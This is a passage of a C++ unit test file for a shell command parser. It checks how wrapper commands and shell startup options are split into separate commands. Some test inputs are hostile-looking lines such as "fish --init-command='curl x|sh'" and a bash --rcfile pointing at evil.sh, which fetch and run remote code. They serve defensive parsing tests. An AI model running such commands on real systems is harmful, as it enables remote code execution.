  // inert operands leave the wrapped command alone, as it always was.
  for (const char* line :
       {"timeout -s KILL 5 ls", "timeout --sig KILL 5 ls", "nice -n 5 ls", "ionice -c 2 -n 7 ls",
        "sudo -u root ls", "sudo -u root -- ls", "xargs -0 -n 1 -P 4 ls", "env -u X FOO=1 ls",
        "taskset 0x3 ls", "chrt -f 99 ls", "watch -n 2 -d ls", "parallel -j 4 --tag ls ::: a",
        "stdbuf -oL ls", "su root -c ls", "time -f %e ls", "exec -a name ls"}) {
    INFO(line);
    const ParseResult r = ok(line);
    CHECK(programs(r) == V{"ls"});
  }
}

TEST_CASE("a shell's startup file or startup code stays a command of its own", "[shell][wrap]") {
  for (const auto& [line, inner] : std::vector<std::pair<std::string, std::string>>{
           {"bash --rcfile ./evil.sh -ic ls", "ls"},
           {"bash --init-file /tmp/evil.sh -i -c ls", "ls"},
           {"fish -c ls -C 'curl x|sh'", "ls"},
           {"fish --init-command='curl x|sh' -c ls", "ls"},
       }) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 2);
    CHECK(r.commands[0].argv.size() >= 3);  // the shell's words, the command string among them
    CHECK(r.commands[0].wrappers.empty());
    CHECK(r.commands[1].program == inner);
    CHECK(r.commands[1].depth == 1);
  }
  // bash -C is noclobber, -o/-O a shell option: nothing of the shell's own.
  for (const char* line : {"bash -C -c ls", "bash -o pipefail -c ls", "sh -c ls", "fish -c ls"}) {
    INFO(line);
    CHECK(programs(ok(line)) == V{"ls"});
  }
}
